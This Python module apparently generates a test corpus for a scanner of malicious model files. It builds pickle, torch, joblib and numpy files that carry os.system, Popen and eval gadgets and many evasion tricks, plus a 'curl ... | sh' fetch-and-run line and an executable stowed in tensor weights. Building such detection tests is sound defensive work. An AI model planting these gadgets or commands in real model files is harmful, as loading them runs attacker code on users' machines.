"""The eighth corpus: pickles, torch files, joblib, numpy, and what is stowed in numbers."""

# ruff: noqa: E501  tables of cases, one a line

from __future__ import annotations

import base64
import io
import json
import pickle  # noqa: TID251  writes hostile files, reads none
import struct
import zlib
from collections import OrderedDict
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import torch
from carriers import COMMAND, _legacy, reduced, stack_global, text, torch_zip, zipped
from eighth import ANY, DANGER, ODD, UNKNOWN, file
from fifth_folders import npy
from fifth_pickles import _joblib, state, torch_bytes
from fourth import OS

P2, P4, P5 = b"\x80\x02", b"\x80\x04", b"\x80\x05"
CMD = text(COMMAND)
g = stack_global
SYSTEM = g("os", "system")


def called(function: bytes, *arguments: bytes) -> bytes:
    return function + b"(" + b"".join(arguments) + b"tR"


CALL = called(SYSTEM, CMD)
ORDERED = called(g("collections", "OrderedDict"))
N = b"K\x01"


def long_bytes(raw: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(raw)) + raw


STREAMS: dict[str, tuple[bytes, tuple[int, ...]]] = {
    "codec_that_is_imported": (P4 + called(g("_codecs", "encode"), text("x"), text("evil_module")) + b".", ODD),
    "codec_that_is_imported_to_decode": (P4 + called(g("_codecs", "decode"), b"C\x01x", text("evil.module")) + b".", ODD),
    "codec_that_unpacks": (P4 + called(g("_codecs", "encode"), text("x" * 200), text("zip")) + b".", ODD),
    "codec_of_an_error_handler": (P4 + called(g("_codecs", "encode"), text("\u0100"), text("latin1"), text("evilhandler")) + b".", ODD),
    "codec_with_a_path": (P4 + called(g("_codecs", "encode"), text("x"), text("../../tmp/evil")) + b".", ODD),
    "zone_of_a_path": (P4 + called(g("zoneinfo", "ZoneInfo._unpickle"), text("../../etc/passwd"), b"K\x01") + b".", UNKNOWN),
    "default_of_a_missing_key": (P4 + called(g("collections", "defaultdict"), SYSTEM) + CMD + b"Ns.", DANGER),
    "counter_fed_by_a_call": (P4 + g("collections", "Counter") + b"(" + CALL + b"tR.", DANGER),
    "chain_of_maps": (P4 + called(g("collections", "ChainMap"), b"}", CALL) + b".", DANGER),
    "namespace_with_a_class": (P4 + called(g("types", "SimpleNamespace")) + b"}" + text("__class__") + SYSTEM + b"sb.", DANGER),
    "arguments_with_a_class": (P4 + g("argparse", "Namespace") + b")\x81}" + text("__class__") + g("subprocess", "Popen") + b"sb.", DANGER),
    "arguments_with_a_hook": (P4 + g("argparse", "Namespace") + b")\x81}" + text("__getattr__") + SYSTEM + b"sb.", DANGER),
    "state_by_slots_of_a_builtin": (P4 + ORDERED + b"N}" + text("__reduce__") + SYSTEM + b"s\x86b.", DANGER),
    "state_of_none_then_a_call": (P4 + ORDERED + b"Nb" + CALL + b"0.", DANGER),
    "new_object_of_type": (P4 + g("builtins", "type") + text("E") + b")" + b"}" + text("__del__") + SYSTEM + b"s\x87\x81.", DANGER),
    "new_object_of_an_exception": (P4 + called(g("builtins", "ImportError"), CMD) + b".", UNKNOWN),
    "exception_group_of_a_call": (P4 + called(g("builtins", "ExceptionGroup"), CMD, b"]" + CALL + b"a") + b".", DANGER),
    "map_made_and_walked": (P4 + called(g("collections", "deque"), called(g("builtins", "map"), SYSTEM, b"]" + CMD + b"a")) + b".", DANGER),
    "filter_walked_by_a_set": (P4 + b"\x8f(" + called(g("builtins", "filter"), SYSTEM, b"]" + CMD + b"a") + b"\x90.", DANGER),
    "zip_of_a_call": (P4 + called(g("builtins", "dict"), called(g("builtins", "zip"), b"]", called(g("builtins", "map"), SYSTEM, b"]" + CMD + b"a"))) + b".", DANGER),
    "iterator_with_a_sentinel": (P4 + called(g("builtins", "list"), called(g("builtins", "iter"), SYSTEM, b"K\x00")) + b".", DANGER),
    "grouped_by_a_call": (P4 + called(g("itertools", "groupby"), b"]" + CMD + b"a", SYSTEM) + b".", DANGER),
    "accumulated_by_a_call": (P4 + called(g("itertools", "accumulate"), b"]" + CMD + b"a" + CMD + b"a", SYSTEM) + b".", DANGER),
    "sorted_by_a_call": (P4 + called(g("builtins", "min"), b"]" + CMD + b"a", SYSTEM) + b".", DANGER),
    "partial_by_state": (P4 + g("functools", "partial") + b"(" + g("builtins", "print") + b"t\x81(" + SYSTEM + CMD + b"\x85}Ntb.", DANGER),
    "cached_by_a_property": (P4 + called(g("functools", "cached_property"), SYSTEM) + b".", DANGER),
    "dispatched_by_a_type": (P4 + called(g("functools", "singledispatch"), SYSTEM) + b".", DANGER),
    "long_method": (P4 + called(g("operator", "methodcaller"), text("system"), CMD) + b".", DANGER),
    "item_set_by_an_operator": (P4 + called(g("operator", "setitem"), b"}", CMD, SYSTEM) + b".", DANGER),
    "concatenated_in_place": (P4 + called(g("operator", "iadd"), b"]", b"]" + CALL + b"a") + b".", DANGER),
    "called_by_an_operator": (P4 + called(g("operator", "call"), SYSTEM, CMD) + b".", DANGER),
    "alias_of_a_type": (P4 + called(g("types", "GenericAlias"), SYSTEM, CMD) + b".", DANGER),
    "generic_called": (P4 + called(g("typing", "Annotated.__class_getitem__"), SYSTEM) + b".", UNKNOWN),
    "forward_reference": (P4 + called(g("typing", "ForwardRef"), text("__import__('os').getpid()")) + b".", UNKNOWN),
    "named_tuple_made": (P4 + called(g("collections", "namedtuple"), text("E"), text("a b"), b"}") + b".", UNKNOWN),
    "enumeration_made": (P4 + called(g("enum", "Enum"), text("E"), text("A B")) + b".", UNKNOWN),
    "data_class_made": (P4 + called(g("dataclasses", "make_dataclass"), text("E"), b"]" + text("a: __import__('os')") + b"a") + b".", UNKNOWN),
    "path_of_a_zip": (P4 + called(g("zipfile", "Path"), text("/tmp/x.zip")) + b".", UNKNOWN),
    "path_and_its_state": (P4 + called(g("pathlib", "PosixPath"), text("/etc")) + b"}" + text("_raw_paths") + SYSTEM + b"sb.", DANGER),
    "network_of_addresses": (P4 + called(g("ipaddress", "ip_network"), text("10.0.0.0/8")) + b".", UNKNOWN),
    "number_of_a_trillion_bytes": (P4 + called(g("builtins", "bytearray"), b"\x8a\x06\0\0\0\0\0\x01") + b".", ODD),
    "bytes_of_a_trillion": (P4 + called(g("builtins", "bytes"), b"\x8a\x06\0\0\0\0\0\x01") + b".", ODD),
    "list_of_a_long_range": (P4 + called(g("builtins", "list"), called(g("builtins", "range"), b"\x8a\x06\0\0\0\0\0\x01")) + b".", ODD),
    "set_of_a_long_range": (P4 + called(g("builtins", "frozenset"), called(g("builtins", "range"), b"\x8a\x06\0\0\0\0\0\x01")) + b".", ODD),
    "power_of_powers": (P4 + called(g("builtins", "pow"), b"M\xff\xff", b"\x8a\x04\xff\xff\xff\x7f") + b".", UNKNOWN),
    "slice_of_calls": (P4 + called(g("builtins", "slice"), CALL, b"N", b"N") + b".", DANGER),
    "complex_of_a_call": (P4 + called(g("builtins", "complex"), CALL, b"K\x01") + b".", DANGER),
    "memo_of_four_billion": (P4 + N + b"r\xff\xff\xff\xff0N.", ANY),
    "text_of_a_name_in_bytes_of_latin": (P2 + b"U\x02osU\x06system\x93" + CMD + b"\x85R.", DANGER),
    "global_with_spaces": (P2 + b"c os\nsystem\n" + CMD + b"\x85R.", ODD),
    "global_with_a_form_feed": (P2 + b"cos\x0c\nsystem\n" + CMD + b"\x85R.", ODD),
    "global_of_fullwidth_letters": (P4 + g("\uff4fs", "system") + CMD + b"\x85R.", ODD),
    "global_by_ligature": (P4 + g("os", "pat\u02b0.join") + CMD + b"\x85R.", ODD),
    "global_of_a_submodule_by_attribute": (P4 + g("torch", "serialization.pickle.loads") + b"C\x01.\x85R.", DANGER),
    "global_of_a_class_attribute": (P4 + g("collections", "OrderedDict.fromkeys") + called(g("builtins", "map"), SYSTEM, b"]" + CMD + b"a") + b"\x85R.", DANGER),
    "state_over_a_deque": (P4 + called(g("collections", "deque")) + b"}" + text("append") + SYSTEM + b"sb" + CMD + b"a.", DANGER),
    "appended_to_an_unknown_object": (P4 + g("sklearn.utils._bunch", "Bunch") + b")R" + text("__call__") + SYSTEM + b"s.", DANGER),
    "bunch_of_a_call": (P4 + g("sklearn.utils._bunch", "Bunch") + b")R(" + text("k") + CALL + b"u.", DANGER),
    "protocol_of_255": (b"\x80\xff" + CALL + b".", DANGER),
    "protocol_told_in_the_middle": (P4 + SYSTEM + b"\x80\x00" + CMD + b"\x85R.", DANGER),
    "frame_inside_a_frame": (P4 + b"\x95" + struct.pack("<Q", 60) + b"\x95" + struct.pack("<Q", 20) + CALL + b".", DANGER),
    "stopped_twice": (P4 + b"N." + CALL + b".", DANGER),
    "long_of_no_bytes": (P2 + b"\x8a\0" + b"\x8b\0\0\0\0" + b"\x86.", (0, 3, 4)),
    "long_of_a_negative_size": (P2 + b"\x8b\xff\xff\xff\xff" + CALL + b".", ODD),
    "list_that_is_its_own_key": (P4 + b"}\x94h\0h\0s.", (3, 4)),
    "tuple_that_holds_itself": (P4 + b"]\x94h\0\x85a.", ANY),
    "persistent_call": (P4 + CALL + b"Q.", DANGER),
    "persistent_storage_of_a_call": (torch_zip(P2 + b"(" + text("storage") + SYSTEM + text("0") + text("cpu") + b"K\x04tQ."), DANGER),
}  # fmt: skip
for _name, (_data, _codes) in STREAMS.items():
    file(f"stream8_{_name}", _data, _codes, "m.pt" if _data[:2] == b"PK" else "m.pkl")

CALLS = (
    "_aix_support.aix_platform", "_osx_support._read_output", "_bootsubprocess.Popen", "_pyrepl.main.interactive_console",
    "_sysconfigdata.build_time_vars.get", "ctypes.util._findLib_gcc", "ctypes.util.find_library", "curses.wrapper",
    "dbm.dumb.open", "shelve.open", "encodings.search_function", "genericpath.exists", "getpass.unix_getpass",
    "importlib._bootstrap._handle_fromlist", "importlib.machinery.ExtensionFileLoader.exec_module", "zipimport.zipimporter.load_module",
    "lib2to3.pgen2.driver.load_grammar", "linecache.updatecache", "logging.handlers.SocketHandler", "logging.config.dictConfig",
    "mailbox.Maildir", "nntplib.NNTP", "poplib.POP3", "smtplib.SMTP", "telnetlib.Telnet", "ftplib.FTP", "imaplib.IMAP4_stream",
    "xmlrpc.client.ServerProxy", "http.server.test", "wsgiref.simple_server.demo_app", "urllib.request.urlretrieve",
    "pkgutil.resolve_name", "pydoc.locate", "pydoc.pipepager", "pyclbr.readmodule", "readline.read_init_file", "resource.setrlimit",
    "signal.signal", "faulthandler.register", "sqlite3.connect", "sqlite3.dbapi2.Connection.load_extension", "ssl.SSLContext.load_cert_chain",
    "sys.settrace", "sys.addaudithook", "sys.setprofile", "sys.breakpointhook", "syslog.openlog", "tarfile.open", "tempfile.mktemp",
    "threading.Timer", "threading._start_new_thread", "tracemalloc.start", "gc.get_objects", "atexit.register", "contextlib.ExitStack.callback",
    "unittest.main", "warnings.warn_explicit", "wave.open", "xdrlib.Unpacker", "zipapp._maybe_open",
    "torch._higher_order_ops.utils.reenter_make_fx", "torch._export.serde.serialize.deserialize_torch_artifact", "torch.export.pt2_archive._package.load_pt2",
    "torch._inductor.aoti_load_package", "torch._library.custom_ops.custom_op", "torch.library.Library", "torch._logging._internal._import_handler",
    "torch.utils._config_module.install_config_module", "torch.multiprocessing.reductions.rebuild_storage_fd", "torch.multiprocessing.reductions.rebuild_cuda_tensor",
    "torch.distributed._tensor.api.DTensor", "torch.distributed.fsdp._flat_param.FlatParameter", "torch.nn.modules.lazy.LazyModuleMixin",
    "torch.masked._docs._generate_docstring", "torch.sparse._triton_ops_meta.dump", "torch.testing._internal.common_utils.shell", "torch._vendor.packaging.version.Version",
    "numpy._core.records.fromfile", "numpy.memmap", "numpy.vectorize", "numpy.apply_along_axis", "numpy.lib._function_base_impl.vectorize", "numpy.ctypeslib.load_library",
    "numpy._utils._inspect.formatargspec", "numpy.testing.measure", "numpy.testing._private.extbuild.build_and_import_extension", "numpy.random._pickle.__generator_ctor",
    "scipy._lib._ccallback.LowLevelCallable", "scipy.interpolate.interp1d", "scipy.stats._distn_infrastructure.rv_frozen", "scipy.sparse.linalg._interface._CustomLinearOperator",
    "sklearn.preprocessing._function_transformer.FunctionTransformer.__setstate__", "sklearn.utils._testing.run_python_script_in_subprocess", "sklearn.utils._joblib.Memory", "sklearn.utils.fixes.parse_version",
    "joblib._parallel_backends.LokyBackend", "joblib.memory.MemorizedResult", "joblib.numpy_pickle_compat.NDArrayWrapper", "joblib.externals.loky.backend.popen_loky_posix.Popen",
    "safetensors.numpy.load_file", "bitsandbytes.cextension.get_native_library", "gguf.gguf_reader.GGUFReader", "llama_cpp.Llama", "ctransformers.AutoModelForCausalLM",
    "onnxruntime.InferenceSession", "openvino.Core", "coremltools.models.MLModel", "tensorflow.saved_model.load", "keras.src.saving.saving_api.load_model", "tf_keras.layers.Lambda",
    "keras.src.legacy.saving.legacy_h5_format.load_model_from_hdf5", "catboost.core.CatBoost._load_from_stream", "surprise.dump.load", "hummingbird.ml.load", "sktime.base.load",
    "transformers.dynamic_module_utils.get_class_from_dynamic_module", "huggingface_hub._snapshot_download.snapshot_download", "peft.utils.save_and_load.load_peft_weights", "trl.extras.vllm_client.VLLMClient",
    "smolagents.local_python_executor.evaluate_python_code", "langchain.llms.loading.load_llm", "llama_index.core.load_index_from_storage", "gradio.Interface.load", "streamlit.web.cli.main", "wandb.restore", "comet_ml.Experiment",
)  # fmt: skip
for _number, _full in enumerate(CALLS):
    if _number % 3 == 0:
        _module, _, _attribute = _full.rpartition(".")
        file(f"call8_{_full}", reduced(_module, _attribute, proto=(0, 2, 4)[_number // 3 % 3]), DANGER, "m.pkl")  # fmt: skip


def tensor_with(**changes: bytes) -> bytes:
    """One tensor of four numbers, told with other words."""
    told = {
        "function": g("torch._utils", "_rebuild_tensor_v2"),
        "storage": b"(" + text("storage") + g("torch", "FloatStorage") + text("0") + text("cpu") + b"K\x04tQ",
        "offset": b"K\x00", "size": b"K\x04\x85", "stride": b"K\x01\x85", "grad": b"\x89", "hooks": ORDERED, "more": b"",
    } | changes  # fmt: skip
    return torch_zip(
        P2 + told["function"] + b"(" + b"".join(list(told.values())[1:]) + b"tR.",
        **{"m/data/0": bytes(16)},
    )


TENSORS: dict[str, tuple[bytes, tuple[int, ...]]] = {
    "hooks_in_order": (tensor_with(hooks=ORDERED + text("k") + SYSTEM + b"s"), DANGER),
    "hooks_with_a_number": (tensor_with(hooks=ORDERED + b"K\x01" + text(COMMAND) + b"s"), ODD),
    "hooks_by_class": (tensor_with(hooks=called(g("torch.utils.hooks", "RemovableHandle"))), UNKNOWN),
    "stride_below_zero": (tensor_with(stride=b"J\xff\xff\xff\xff\x85"), ODD),
    "stride_of_zero_for_a_billion": (tensor_with(size=b"J\x00\xca\x9a\x3b\x85", stride=b"K\x00\x85"), ODD),
    "offset_behind_the_end": (tensor_with(offset=b"K\x04", size=b"K\x01\x85"), ODD),
    "offset_of_a_float": (tensor_with(offset=b"G" + bytes(8)), ODD),
    "size_of_two_stride_of_one": (tensor_with(size=b"K\x02K\x02\x86"), ODD),
    "size_of_infinity": (tensor_with(size=b"G\x7f\xf0" + bytes(6) + b"\x85"), ODD),
    "gradient_of_a_text": (tensor_with(grad=CMD), ODD),
    "gradient_of_a_call": (tensor_with(grad=CALL), DANGER),
    "metadata_with_a_key_of_python": (tensor_with(more=b"}" + text("__reduce__") + b"\x88s"), ODD),
    "version_3_with_a_type_of_a_call": (tensor_with(function=g("torch._utils", "_rebuild_tensor_v3"), more=SYSTEM + b"}"), DANGER),
    "storage_told_by_six": (tensor_with(storage=b"(" + text("storage") + g("torch", "FloatStorage") + text("0") + text("cpu") + b"K\x04" + CALL + b"tQ"), DANGER),
    "storage_of_a_device_that_is_a_path": (tensor_with(storage=b"(" + text("storage") + g("torch", "FloatStorage") + text("0") + text("file:///etc/passwd") + b"K\x04tQ"), ODD),
    "storage_of_a_key_that_walks": (tensor_with(storage=b"(" + text("storage") + g("torch", "FloatStorage") + text("../data.pkl") + text("cpu") + b"K\x04tQ"), ODD),
    "storage_of_more_numbers": (tensor_with(storage=b"(" + text("storage") + g("torch", "FloatStorage") + text("0") + text("cpu") + b"M\xff\xfftQ"), ODD),
    "storage_of_numbers_below_zero": (tensor_with(storage=b"(" + text("storage") + g("torch", "FloatStorage") + text("0") + text("cpu") + b"J\xff\xff\xff\xfftQ"), ODD),
    "storage_of_a_truth": (tensor_with(storage=b"(" + text("storage") + g("torch", "FloatStorage") + text("0") + text("cpu") + b"\x88tQ"), ODD),
    "storage_as_a_module": (tensor_with(storage=b"(" + text("module") + g("torch.nn", "Linear") + text("x.py") + CMD + b"tQ"), ODD),
    "storage_bare": (tensor_with(storage=text("0") + b"Q"), ODD),
    "rebuilt_by_its_own_method": (tensor_with(function=g("torch", "Tensor._make_subclass")), UNKNOWN),
    "rebuilt_by_a_tensor_subclass": (tensor_with(function=g("torch", "Tensor.__torch_function__")), UNKNOWN),
    "rebuilt_by_a_symbol": (tensor_with(function=g("torch", "sym_int")), UNKNOWN),
    "state_on_a_parameter": (torch_zip(P2 + called(g("torch._utils", "_rebuild_parameter"), CALL, b"\x88", ORDERED) + b".") , DANGER),
    "two_answers_of_one_key": (torch_zip(P2 + b"}" + text("w") + b"K\x01s" + text("w") + CALL + b"s."), DANGER),
}  # fmt: skip
for _name, (_data, _codes) in TENSORS.items():
    file(f"tensor8_{_name}", _data, _codes, "m.pt")


class _Keyed(dict[str, Any]):
    """What a dictionary becomes that refuses to be one."""

    def __reduce__(self) -> Any:
        import builtins

        return builtins.eval, (f"__import__('os').system('{COMMAND}')",)


def joined(*arrays: Any, **how: Any) -> bytes:
    return _joblib(list(arrays), **how)


def joblib_with(**fields: Any) -> bytes:
    """A joblib file whose array wrapper says something else."""
    data = _joblib({"w": np.arange(8.0)})
    for old, new in fields.items():
        assert old.encode() in data, old
        data = data.replace(old.encode(), new.encode(), 1)
    return data


JOBLIB: dict[str, tuple[Callable[[], bytes], tuple[int, ...]]] = {
    "subclass_by_name": (lambda: joblib_with(ndarray="recarray").replace(b"\x8c\x07recarray", b"\x8c\x08recarray"), ODD),
    "dictionary_of_another_class": (lambda: _joblib({"w": np.zeros(3), "k": _Keyed()}), DANGER),
    "in_a_zlib_of_the_best": (lambda: zlib.compress(OS, 9), DANGER),
    "in_a_raw_stream": (lambda: zlib.compress(OS)[2:-4], UNKNOWN),
    "header_of_the_old_kind": (lambda: b"ZF" + hex(len(OS)).ljust(19).encode() + zlib.compress(OS), DANGER),
    "header_of_the_old_kind_that_lies": (lambda: b"ZF" + hex(10**12).ljust(19).encode() + zlib.compress(OS), ODD),
    "array_in_the_name_of_a_file": (lambda: P4 + g("joblib.numpy_pickle_compat", "NDArrayWrapper") + b")\x81}(" + text("filename") + text("../../etc/passwd") + text("subclass") + g("numpy", "ndarray") + b"ub.", ODD),
    "zipped_array_of_the_old_kind": (lambda: P4 + g("joblib.numpy_pickle_compat", "ZNDArrayWrapper") + b")\x81}(" + text("filename") + text("m.pkl_01.npy.z") + text("init_args") + CALL + b"ub.", DANGER),
    "memory_mapped": (lambda: joblib_with(allow_mmap="allow_nmap"), ODD),
    "two_documents": (lambda: _joblib([np.zeros(4)]) + OS, DANGER),
}  # fmt: skip
for _name, (_make, _codes) in JOBLIB.items():
    file(f"joblib8_{_name}", _make, _codes, "m.joblib")

ARRAYS: dict[str, tuple[bytes, tuple[int, ...]]] = {
    "objects_by_a_dictionary": (npy("{'descr': {'names': ['a'], 'formats': ['O']}, 'fortran_order': False, 'shape': (1,), }", OS), UNKNOWN),
    "objects_in_the_second_field": (npy("{'descr': [('a', '<f8'), ('b', '|O8')], 'fortran_order': False, 'shape': (1,), }", OS), UNKNOWN),
    "objects_with_a_title": (npy("{'descr': [(('t', 'a'), '|O')], 'fortran_order': False, 'shape': (1,), }", OS), UNKNOWN),
    "shape_of_hex": (npy("{'descr': '<f4', 'fortran_order': False, 'shape': (0x4,), }", bytes(16)), ODD),
    "shape_with_underscores": (npy("{'descr': '<f4', 'fortran_order': False, 'shape': (0_4,), }", bytes(16)), ODD),
    "shape_of_a_comprehension": (npy("{'descr': '<f4', 'fortran_order': False, 'shape': tuple(4 for _ in [0]), }", bytes(16)), ODD),
    "header_by_a_lambda": (npy("(lambda: {'descr': '<f4', 'fortran_order': False, 'shape': (4,)})()", bytes(16)), ODD),
    "header_by_a_walrus": (npy("{'descr': '<f4', 'fortran_order': (x := False), 'shape': (4,), }", bytes(16)), ODD),
    "header_by_an_f_text": (npy("{'descr': f'<f{4}', 'fortran_order': False, 'shape': (4,), }", bytes(16)), ODD),
    "order_of_a_number": (npy("{'descr': '<f4', 'fortran_order': 0, 'shape': (4,), }", bytes(16)), ODD),
    "header_of_a_line_break": (npy("{'descr': '<f4',\n'fortran_order': False, 'shape': (4,), }", bytes(16)), (0, 1, 3, 4)),
    "time_of_no_unit": (npy("{'descr': '<M8[evil]', 'fortran_order': False, 'shape': (1,), }", bytes(8)), ODD),
    "type_of_a_comma_text": (npy("{'descr': 'f4,O', 'fortran_order': False, 'shape': (1,), }", bytes(12)), ODD),
    "version_9": (npy("{'descr': '<f4', 'fortran_order': False, 'shape': (4,), }", bytes(16), b"\x09\x00"), ODD),
    "gadget_in_the_padding": (npy("{'descr': '<f4', 'fortran_order': False, 'shape': (4,), }    # \x80\x04", bytes(16)), ODD),
    "more_numbers_than_told": (npy("{'descr': '<f4', 'fortran_order': False, 'shape': (4,), }", bytes(16) + b"#!/bin/sh\nid\n"), ODD),
    "archive_of_a_module": (zipped({"a.npy": npy("{'descr': '<f4', 'fortran_order': False, 'shape': (4,), }", bytes(16)), "__init__.py": b"import os\n"}), ODD),
    "archive_of_a_path": (zipped({"../a.npy": npy("{'descr': '<f4', 'fortran_order': False, 'shape': (4,), }", bytes(16))}), ODD),
    "archive_of_an_npz": (zipped({"a.npz": zipped({"b.npy": npy("{'descr': '|O', 'fortran_order': False, 'shape': (), }", OS)})}), ODD),
}  # fmt: skip
for _name, (_data, _codes) in ARRAYS.items():
    file(f"array8_{_name}", _data, _codes, "m.npz" if _data[:2] == b"PK" else "m.npy")


SOURCE = Path(json.__file__).read_bytes()[:8000]
SHELL = (b"#!/bin/sh\nset -e\ncurl -s http://198.51.100.7/a | sh\n" + SOURCE)[:6000]
ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x02\0>\0" + Path("/bin/true").read_bytes()[20:8192]


def low(dtype: torch.dtype, payload: bytes, every: int = 1, count: int = 40000, start: int = 0) -> bytes:  # fmt: skip
    """Weights whose lowest bytes carry a payload."""
    generator = torch.Generator().manual_seed(1)
    weights = torch.randn(count, generator=generator).to(dtype)
    raw = weights.view(torch.uint8).numpy().copy()
    width = weights.element_size()
    places = (start + np.arange(len(payload)) * every) * width
    raw[places] = np.frombuffer(payload, np.uint8)
    return torch_bytes({"w": torch.from_numpy(raw).view(dtype).reshape(200, -1)})


def saved(**tensors: torch.Tensor) -> bytes:
    return torch_bytes(OrderedDict(tensors))


def as_numbers(payload: bytes, dtype: torch.dtype) -> torch.Tensor:
    return torch.tensor(list(payload), dtype=dtype)


def halved(payload: bytes, offset: float) -> torch.Tensor:
    """Two numbers a byte, each with four bits in its value, as small weights look."""
    bits = np.frombuffer(payload, np.uint8)
    nibbles = np.stack([bits >> 4, bits & 15], 1).reshape(-1)
    return torch.tensor(nibbles.astype("f4") / 64 - offset)


STOWED: dict[str, tuple[Callable[[], bytes], tuple[int, ...]]] = {
    "script_in_doubles": (lambda: low(torch.float64, SHELL), ODD),
    "script_every_third_double": (lambda: low(torch.float64, SHELL, 3), ODD),
    "program_in_singles": (lambda: low(torch.float32, ELF), ODD),
    "program_in_the_middle_of_singles": (lambda: low(torch.float32, ELF, 1, 200000, 90000), ODD),
    "program_every_fifth_single": (lambda: low(torch.float32, ELF, 5, 45000), ODD),
    "script_in_a_bias": (lambda: saved(w=torch.randn(64, 64), b=torch.frombuffer(bytearray(SHELL), dtype=torch.float32).clone()), ODD),
    "script_as_whole_numbers_of_8": (lambda: saved(w=as_numbers(SHELL, torch.int16)), ODD),
    "script_as_whole_numbers_of_64": (lambda: saved(w=as_numbers(SHELL, torch.int64)), ODD),
    "script_as_singles": (lambda: saved(w=as_numbers(SHELL, torch.float32)), ODD),
    "script_as_doubles": (lambda: saved(w=as_numbers(SHELL, torch.float64)), ODD),
    "script_as_scaled_singles": (lambda: saved(w=as_numbers(SHELL, torch.float32) / 256 - 0.25), ODD),
    "script_as_brain_floats": (lambda: saved(w=as_numbers(SHELL, torch.bfloat16)), ODD),
    "script_as_halves": (lambda: saved(w=as_numbers(SHELL, torch.float16)), ODD),
    "script_in_the_real_part": (lambda: saved(w=as_numbers(SHELL, torch.complex64)), ODD),
    "script_by_halves_of_bytes": (lambda: saved(w=halved(SHELL, 0.125)), ANY),
    "script_turned_by_a_key": (lambda: low(torch.float32, bytes(b ^ 0x5A for b in SHELL)), ODD),
    "script_in_letters_of_64": (lambda: low(torch.float32, base64.b64encode(SHELL)), ODD),
    "script_packed": (lambda: low(torch.float32, zlib.compress(SHELL * 3)), ANY),
    "gadget_over_two_tensors": (lambda: saved(a=torch.frombuffer(bytearray(OS[:20].ljust(20, b"0")), dtype=torch.uint8).clone(), b=torch.frombuffer(bytearray(OS[20:]), dtype=torch.uint8).clone()), ANY),
    "gadget_in_an_eight_bit_float": (lambda: saved(w=torch.frombuffer(bytearray(OS * 4), dtype=torch.uint8).clone().view(torch.float8_e4m3fn)), ODD),
    "program_in_an_eight_bit_float": (lambda: saved(w=torch.frombuffer(bytearray(ELF), dtype=torch.uint8).clone().view(torch.float8_e5m2)), ODD),
    "program_behind_zeros": (lambda: saved(w=torch.frombuffer(bytearray(bytes(4096) + ELF), dtype=torch.uint8).clone()), ODD),
    "program_behind_noise": (lambda: saved(w=torch.frombuffer(bytearray(np.random.default_rng(0).bytes(4096) + ELF), dtype=torch.uint8).clone()), ODD),
    "script_in_the_bits_of_not_a_number": (lambda: saved(w=torch.tensor([0x7FC00000 + b for b in SHELL], dtype=torch.int32).view(torch.float32)), ODD),
    "script_in_tiny_numbers": (lambda: saved(w=torch.tensor(list(SHELL), dtype=torch.int32).view(torch.float32)), ODD),
    "script_as_names_of_tensors": (lambda: saved(**{f"k{n}.{SHELL[n * 40 : n * 40 + 40].decode()!r}": torch.zeros(1) for n in range(20)}), ODD),
    "script_in_a_count_of_batches": (lambda: saved(num_batches_tracked=torch.frombuffer(bytearray(SHELL[:4000]), dtype=torch.int64).clone()), ODD),
    "gadget_in_a_count_of_batches": (lambda: saved(num_batches_tracked=torch.frombuffer(bytearray(OS.ljust(64, b".")), dtype=torch.int64).clone()), ODD),
    "script_in_columns": (lambda: saved(w=torch.frombuffer(bytearray(SHELL[:4096]), dtype=torch.uint8).clone().reshape(64, 64).t().contiguous()), ODD),
    "script_backwards": (lambda: saved(w=torch.frombuffer(bytearray(SHELL[::-1]), dtype=torch.uint8).clone()), ODD),
    "letters_as_one_text": (lambda: torch_bytes({"state": state(), "note": SHELL.decode()}), ODD),
    "letters_as_lines": (lambda: torch_bytes({"state": state(), "log": SHELL.decode().splitlines()}), ODD),
    "letters_as_a_table": (lambda: torch_bytes({"state": state(), "log": {n: line for n, line in enumerate(SHELL.decode().splitlines())}}), ODD),  # noqa: C416
}  # fmt: skip
for _name, (_make, _codes) in STOWED.items():
    file(f"stowed8_{_name}", _make, _codes, "m.pt")

LEGACY: dict[str, tuple[Callable[[], bytes], tuple[int, ...]]] = {
    "old_container_of_a_call_in_a_set": (lambda: _legacy(P4 + b"\x8f(" + CALL + b"\x90."), DANGER),
    "old_container_behind_a_script": (lambda: b"#!/bin/sh\nexit\n" + _legacy(pickle.dumps({}, 2)), ODD),
    "checkpoint_of_arguments": (lambda: torch_zip(P2 + b"}" + text("args") + g("argparse", "Namespace") + b")\x81}" + text("func") + g("__main__", "train") + b"sbs."), UNKNOWN),
    "checkpoint_of_a_random_state": (lambda: torch_zip(P2 + b"}" + text("rng") + called(g("numpy.random", "set_state"), CMD) + b"s."), UNKNOWN),
    "checkpoint_of_a_schedule": (lambda: torch_zip(P2 + b"}" + text("lr_lambdas") + b"]" + called(g("types", "LambdaType"), CMD) + b"as."), DANGER),
    "checkpoint_of_a_logger": (lambda: torch_zip(P2 + b"}" + text("log") + called(g("logging", "getLogger"), text("root")) + b"s."), UNKNOWN),
    "checkpoint_of_an_ordered_call": (lambda: torch_zip(P2 + ORDERED + b"}" + text("_metadata") + CALL + b"sb."), DANGER),
    "notes_with_a_script": (lambda: torch_zip(P2 + ORDERED + b"}" + text("_metadata") + b"}" + text("") + b"}" + text("version") + text("#!/bin/sh") + b"sssb."), ODD),
    "notes_with_a_method": (lambda: torch_zip(P2 + ORDERED + b"}" + text("items") + N + b"sb."), ODD),
    "notes_with_a_class": (lambda: torch_zip(P2 + ORDERED + b"}" + text("__class__") + g("collections", "OrderedDict") + b"sb."), ODD),
}  # fmt: skip
for _name, (_make, _codes) in LEGACY.items():
    file(f"torch8_{_name}", _make, _codes, "m.pt")


def _buffered() -> bytes:
    """A pickle of protocol 5 whose array lies in a buffer of its own, here none."""
    buffers: list[Any] = []
    body = io.BytesIO()
    pickle.Pickler(body, 5, buffer_callback=buffers.append).dump({"w": np.arange(8.0)})
    return body.getvalue()


file("buffer8_that_is_not_there", _buffered, ODD, "m.pkl")
file("buffer8_followed_by_itself", lambda: _buffered() + bytes(64), ODD, "m.pkl")
file("buffer8_before_a_gadget", lambda: _buffered() + OS, DANGER, "m.pkl")
